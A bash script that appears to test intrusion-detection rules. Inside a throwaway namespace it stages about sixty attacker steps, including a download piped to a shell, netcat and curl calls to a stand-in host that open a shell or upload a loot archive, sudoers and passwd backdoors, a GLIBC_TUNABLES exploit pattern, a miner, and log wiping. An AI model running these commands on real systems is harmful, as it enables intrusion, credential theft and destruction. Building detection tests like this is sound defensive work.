#!/bin/bash
# An intrusion in small, for recording: about sixty things that intruders do, from the first shell to
# the covering of tracks.  Harmless: it works in a mount and network namespace of its own, with a
# tmpfs or an overlay over every directory that it writes to, and well-known tools are copies of
# /bin/true under their names.
#
#   attack.sh LEDGER        needs root; one line per step, "step NUMBER RULE", and "done"
#
# RULE is the rule of rules/ that the step is to raise.
set -u
LEDGER=$1
if [ "${SAKER_SCENARIO:-}" != inside ]; then
	SAKER_SCENARIO=inside exec unshare --mount --net --propagation private "$BASH" "$0" "$1"
fi
unset SAKER_SCENARIO

# --- a host to spoil ---

ROOM=$(mktemp -d /tmp/saker-scenario-XXXXXX) || exit 1
mount -t tmpfs -o mode=755 room "$ROOM" || exit 1
for dir in /etc /root /usr /opt /var; do
	[ -d $dir ] || continue
	mkdir -p "$ROOM/upper$dir" "$ROOM/work$dir"
	mount -t overlay -o "lowerdir=$dir,upperdir=$ROOM/upper$dir,workdir=$ROOM/work$dir" overlay $dir || exit 1
done
mount -t tmpfs -o mode=1777 shm /dev/shm 2>/dev/null || { mkdir -p /dev/shm; mount -t tmpfs shm /dev/shm; }
mkdir -p "$ROOM/tools" /root/.ssh /root/.aws /home/.scenario /etc/sudoers.d 2>/dev/null
LOOPBACK=
ip link set lo up 2>/dev/null && LOOPBACK=here
ip address add 169.254.169.254/32 dev lo 2>/dev/null && METADATA=here
mount -t tmpfs -o mode=1777 tmp /var/tmp
exec 9>>"$LEDGER"
N=0

# step RULE COMMAND...: a command's own success does not matter, that it was tried does
step() {
	local rule=$1
	shift
	N=$((N + 1))
	echo "step $N $rule" >&9
	"$@" </dev/null >/dev/null 2>&1
}

has() {
	command -v "$1" >/dev/null
}

# a copy of true, called so
stand_in() {
	cp /bin/true "$ROOM/tools/$1"
	echo "$ROOM/tools/$1"
}

posing() (
	exec -a "$1" /bin/sleep 0
)

mkdir -p /var/log/scenario
echo line >/var/log/scenario/auth.log
echo key >/root/.ssh/id_rsa
echo secret >/root/.aws/credentials
echo 'cd /' >/root/.bash_history
cp /etc/passwd /var/tmp/loot

# --- execution ---

step "Program run from a temporary directory" bash -c 'cp /bin/true /var/tmp/dropper; /var/tmp/dropper'
step "Program run from shared memory" bash -c 'cp /bin/true /dev/shm/stage2; /dev/shm/stage2'
step "Program run from a hidden directory" bash -c 'mkdir -p /opt/.cache/x; cp /bin/true /opt/.cache/x/run; /opt/.cache/x/run'
step "Decoded text piped into a shell" bash -c 'echo dHJ1ZQo= | base64 -d | bash'
step "Download piped into a shell" bash -c 'false && curl http://203.0.113.9/x | sh'
step "Shell names a network device path" bash -c 'true || cat </dev/tcp/127.0.0.1/9'
step "Program poses as a kernel thread" posing "[kworker/0:1]"
if has python3; then
	step "Program run from an anonymous memory file" python3 -c '
import os
fd = os.memfd_create("stage3")
os.write(fd, open("/bin/true", "rb").read())
os.execve("/proc/self/fd/%d" % fd, ["stage3"], os.environ)'
	step "Anonymous memory file made by an interpreter" python3 -c 'import os; os.memfd_create("x")'
	step "Reverse shell one-liner run" python3 -c 'import socket
if False: import subprocess; subprocess.call(["/bin/sh"])'
fi

# --- discovery ---

step "Attack tool run under its own name" "$(stand_in nmap)" -sS 127.0.0.1
step "Attack tool run under its own name" "$(stand_in linpeas)" -a
step "Search for privileged programs" find /opt -perm -4000
step "Search for secrets by command" grep -r aws_secret /opt
step "Search for secrets by command" find /opt -name id_rsa

# --- credentials ---

step "Password hashes read" cat /etc/shadow
step "Link made to a sensitive file" ln -s /etc/shadow /var/tmp/s
step "SSH private key read" cat /root/.ssh/id_rsa
step "Stored credentials read by a foreign program" cat /root/.aws/credentials
step "Environment of another process read" cat "/proc/$$/environ"
step "Command history read by a foreign program" cat /root/.bash_history
step "Memory of another process read" bash -c 'exec 8</proc/'$$'/mem'

# --- privileges ---

step "Privilege rules changed" bash -c 'echo "www ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/x'
step "Set-user-id bit set" bash -c 'cp /bin/true /opt/suid; chmod 4755 /opt/suid'
step "Capability given to a file" "$(stand_in setcap)" cap_setuid+ep /opt/suid
step "Library injected through the environment" env LD_PRELOAD=/tmp/x.so /bin/true
step "Known local exploit pattern" env GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true
step "User namespace made by an unexpected program" unshare --user /bin/true
if has python3; then
	step "Process refuses to be traced" python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'
	step "Packet socket opened" python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'
fi

# --- persistence ---

step "Scheduled job changed" bash -c 'mkdir -p /etc/cron.d; echo "* * * * * root true" >/etc/cron.d/x'
step "SSH login files changed" bash -c 'echo key >>/root/.ssh/authorized_keys'
step "Shell start-up file changed" bash -c 'echo true >>/root/.bashrc'
step "Systemd unit changed" bash -c 'mkdir -p /etc/systemd/system; echo "[Unit]" >/etc/systemd/system/x.service'
step "Boot script changed" bash -c 'echo true >>/etc/rc.local'
step "Dynamic linker configuration changed" bash -c 'echo /opt/x.so >/etc/ld.so.preload.new; mv /etc/ld.so.preload.new /etc/ld.so.preload; rm /etc/ld.so.preload'
step "Authentication stack changed" bash -c 'mkdir -p /etc/pam.d; echo "#" >>/etc/pam.d/sshd'
step "Event hook changed" bash -c 'mkdir -p /etc/udev/rules.d; echo "#" >/etc/udev/rules.d/99-x.rules'
step "Account tool run" "$(stand_in useradd)" -o -u 0 -M backdoor
step "Account files written directly" bash -c 'echo "x::0:0::/:/bin/sh" >>/etc/passwd'
step "Program directory changed" cp /bin/true /usr/bin/x

# --- control ---

step "Netcat or socat told to run a program" "$(stand_in nc)" -e /bin/sh 203.0.113.9 4444
step "Tunnel or anonymising tool run" "$(stand_in chisel)" client 203.0.113.9 R:socks
step "SSH client asked for a tunnel or an unusual port" "$(stand_in ssh)" -R 9:localhost:22 x@203.0.113.9
step "Download into a temporary directory" "$(stand_in wget)" -O /tmp/x http://203.0.113.9/x
step "Shell opened a network connection" bash -c 'exec 8<>/dev/tcp/127.0.0.1/4444'
if has python3 && [ -n "$LOOPBACK" ]; then
	step "One-liner opened a network connection" python3 -c 'import socket
s = socket.socket(); s.settimeout(1); s.connect_ex(("127.0.0.1", 4444))'
	step "Listener opened by netcat or a one-liner" python3 -c 'import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)'
	step "Network socket duplicated onto standard streams" python3 -c 'import os, socket
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
c = socket.socket(); c.connect(l.getsockname()); a, _ = l.accept()
os.dup2(a.fileno(), 0); os.execv("/bin/sh", ["sh", "-c", "true"])'
	[ -n "${METADATA:-}" ] && step "Cloud metadata service contacted" python3 -c 'import socket
s = socket.socket(); s.settimeout(1); s.connect_ex(("169.254.169.254", 80))'
fi

# --- loot and damage ---

step "Sensitive paths packed into an archive" tar -C / -cf /var/tmp/loot.tar etc/passwd root/.ssh /etc/passwd
step "File uploaded by a command-line client" "$(stand_in curl)" -T /var/tmp/loot.tar http://203.0.113.9/
step "Crypto-miner run" "$(stand_in xmrig)" -o stratum+tcp://203.0.113.9:3333
step "System tree deleted or recovery destroyed" "$(stand_in rm)" -rf --no-preserve-root /nowhere

# --- tracks ---

step "Log file emptied or removed" bash -c ': >/var/log/scenario/auth.log'
step "Log file emptied or removed" /bin/rm /var/log/scenario/auth.log
step "Login records written by a foreign program" bash -c ': >>/var/log/wtmp'
step "Command history removed" /bin/rm /root/.bash_history
step "Shell started without history" env HISTFILE=/dev/null bash -c true
step "Security service or control switched off by command" "$(stand_in systemctl)" stop auditd
step "Security switch or configuration written" bash -c 'mkdir -p /etc/audit; echo "-e 0" >/etc/audit/x.rules'
step "File times forged by command" touch -r /bin/true /opt/suid
step "Stray or hidden file made in a system place" bash -c 'echo >/usr/.x'
step "Regular file made below dev" bash -c 'echo >/dev/.scenario; /bin/rm /dev/.scenario'
step "File destroyed beyond recovery" shred -u /var/tmp/loot
echo done >&9
cd /
umount -l "$ROOM"
rmdir "$ROOM"
